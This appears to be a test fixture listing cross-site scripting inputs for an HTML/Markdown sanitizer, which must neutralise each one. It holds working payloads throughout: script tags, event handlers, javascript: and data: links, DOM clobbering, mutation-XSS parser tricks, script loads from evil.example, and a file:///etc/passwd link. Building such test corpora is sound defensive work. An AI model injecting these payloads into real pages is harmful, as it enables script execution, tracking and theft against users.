/** Attempts on a reader's browser; each must come out without a dangerous node, attribute or address. */
export const VECTORS = [
  // plain HTML
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>', '<img src="https://evil.example/t.gif">', '<img srcset="https://evil.example/t.gif 2x" src>', '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=9>a</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">a</maction></math>', '<math href="javascript:alert(1)">a</math>',
  '<iframe src="javascript:alert(1)">', '<iframe srcdoc="<script>alert(1)</script>">', '<object data="javascript:alert(1)">', '<embed src=//evil.example/x.swf>',
  '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example/x.css";</style>', '<p style="background:url(//evil.example)">a</p>',
  '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=//evil.example">', '<body onload=alert(1)>', '<video><source onerror=alert(1)></video>',
  '<audio src=//evil.example/a.mp3 autoplay>', '<video poster=//evil.example/p.png>', '<details open ontoggle=alert(1)>a</details>', '<marquee onstart=alert(1)>a</marquee>',
  '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<button formaction=javascript:alert(1)>a</button>',
  '<form action="javascript:alert(1)"><input type=submit></form>', '<isindex type=image src=1 onerror=alert(1)>', '<keygen autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">a</a>', '<a href="https://ok.example" ping="https://evil.example">a</a>', '<a target=_blank href=//evil.example>a</a>', '<div onclick=alert(1)>a</div>',
  '<template><script>alert(1)</script></template>', '<portal src=//evil.example>', '<dialog open onclose=alert(1)>a</dialog>', '<x onclick=alert(1) tabindex=1 id=x>a</x>',
  // clobbering
  '<form id=document><input name=cookie></form>', '<a id=location href=x>a</a><a id=location name=reload>b</a>', '<img name=getElementById>', '<form><input name=attributes><input name=parentNode></form>',
  '<a id="__proto__">a</a>', '<p id="constructor" name="toString" class="admin">a</p>', '<slot name=x>a</slot>', '<p is="x-evil" slot="y" part="z">a</p>',
  // mutation
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<table><td><a href="x"><table><a onclick=alert(1)>', '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)>', '<?xml version="1.0"?><img src=x onerror=alert(1)>', '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><img src=x onerror=alert(1)>', '<title><img src=x onerror=alert(1)></title>', '<textarea></textarea><img src=x onerror=alert(1)>',
  '<noembed><noembed></noembed><img src=x onerror=alert(1)>', '<select><template><img src=x onerror=alert(1)></template></select>', '<svg><desc><template><style><img src=x onerror=alert(1)></style>',
  '<p id="\n\n<img src=x onerror=alert(1)>">', '<details\n\nontoggle=alert(1)\n\nopen>', '<a href="\n\njavascript:alert(1)\n\n">a</a>',
  // Markdown links
  '[a](javascript:alert(1))', '[a](JaVaScRiPt:alert(1))', '[a]( javascript:alert(1))', '[a](java\tscript:alert(1))', '[a](<java\u0000script:alert(1)>)', '[a](java&#115;cript:alert(1))',
  '[a](&#x6A;avascript:alert(1))', '[a](javascript&colon;alert(1))', '[a](java&Tab;script:alert(1))', '[a](java&NewLine;script:alert(1))', '[a](\u0001javascript:alert(1))', '[a](\u00A0javascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '[a](vbscript:msgbox(1))', '[a](file:///etc/passwd)', '[a](blob:https://evil.example/1)', '[a](view-source:https://evil.example)',
  '[a](//evil.example)', '[a](/\\evil.example)', '[a](/&#47;evil.example)', '[a](/&Tab;/evil.example)', '[a](/&sol;evil.example)', '[a](https:javascript:alert(1))', '[a](\\javascript:alert(1))',
  '[a](https://ok.example"onmouseover="alert(1))', "[a](https://ok.example'onmouseover='alert(1))", '[a](https://ok.example "x" onclick="alert(1)")', '[a](https://ok.example "\\" onclick=alert(1) x=\\"")',
  '[a](https://ok.example/`"><script>alert(1)</script>`)', '[a]: javascript:alert(1)\n[a]', '[a]: <javascript:alert(1)>\n\n[b][a]', '[a][b]\n\n[b]: data:text/html,<script>alert(1)</script>',
  '<javascript:alert(1)>', '<JAVASCRIPT:alert(1)>', '<data:text/html,<script>alert(1)</script>>', '<vbscript:x>', '<https://ok.example/"onclick="alert(1)>', "<https://ok.example/'onclick='alert(1)>",
  'https://ok.example/"onmouseover="alert(1)', 'https://ok.example/<script>alert(1)</script>', 'www.ok.example/"><img/src=x/onerror=alert(1)>', 'javascript://ok.example/%0aalert(1)', 'a@evil.example"onclick="alert(1)',
  // Nested links, images, odd corners
  '[[a](https://b.example)](javascript:alert(1))', '[https://a.example](javascript:alert(1))', '[<https://a.example>](javascript:alert(1))', '[![a](https://evil.example/t.gif)](https://b.example)', '![a](https://evil.example/t.gif)',
  '![a](javascript:alert(1))', '![a"onerror="alert(1)](https://evil.example/t.gif)', '![<script>alert(1)</script>](x)', '![a](x "onerror=alert(1)")', '![a][b]\n\n[b]: https://evil.example/t.gif',
  '```"><script>alert(1)</script>\na\n```', '```html onload=alert(1)\n<script>alert(1)</script>\n```', '``<script>alert(1)</script>``', '    <script>alert(1)</script>', '`<img src=x onerror=alert(1)>',
  '|<script>alert(1)</script>|\n|:-:|\n|<img src=x onerror=alert(1)>|', '- [x] <input onfocus=alert(1) autofocus>', '# <svg onload=alert(1)>', '> <script>\n> alert(1)\n> </script>', '1. <iframe src=javascript:alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '&amp;lt;script&amp;gt;', '\\<script\\>alert(1)\\</script\\>', '**<b onmouseover=alert(1)>a**</b>', '<pre>\n&lt;img src=x onerror=alert(1)&gt;',
  '<kbd>&lt;img src=x onerror=alert(1)&gt;</kbd>', '<code>&#60;img src=x onerror=alert(1)&#62;', '<script>\n\n&lt;img src=x onerror=alert(1)&gt;', '[a](https://ok.example/&quot;onclick=&quot;alert(1))', '[&lt;img src=x onerror=alert(1)&gt;](/a)',
  '[a](#" onclick="alert(1))', '[a](/a" autofocus onfocus="alert(1))', '~~<img src=x onerror=alert(1)>~~', '99999999999. a', '999999999. a\n\n<ol start="1 onclick=alert(1)">',
];
